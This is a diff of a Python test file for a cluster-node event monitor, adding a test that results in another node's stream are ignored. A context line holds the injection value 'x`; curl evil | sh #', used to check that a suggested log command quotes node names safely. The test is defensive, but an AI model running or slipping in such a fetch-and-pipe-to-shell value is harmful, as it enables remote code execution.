@@ -152,6 +152,13 @@ def test_scripts_that_a_node_refused_or_could_not_run_are_events(account: FakeOp
     assert "work-1: failed bundle aaaaaaaa: create users: useradd: exit 9" in printed(account)[2]
 
 
+@pytest.mark.parametrize("result", ["failed", "applied"])
+def test_a_result_in_the_stream_of_another_node_is_no_event(account: FakeOperations, result: str) -> None:
+    account.forge("work/i-00000000000000003", "bundle", 2, result=result)
+    account.forge("head/i-00000000000000003", "state", 1, **slurm(DRAINED))
+    assert found(account) == []
+
+
 def test_a_command_to_copy_quotes_the_name_that_a_node_reported() -> None:
     event = Event(NOW, Source.BUNDLE, "failed", "x`; curl evil | sh #", "boom")
     assert "./hpod logs ml 'x`; curl evil | sh #'`" in event.action("ml")
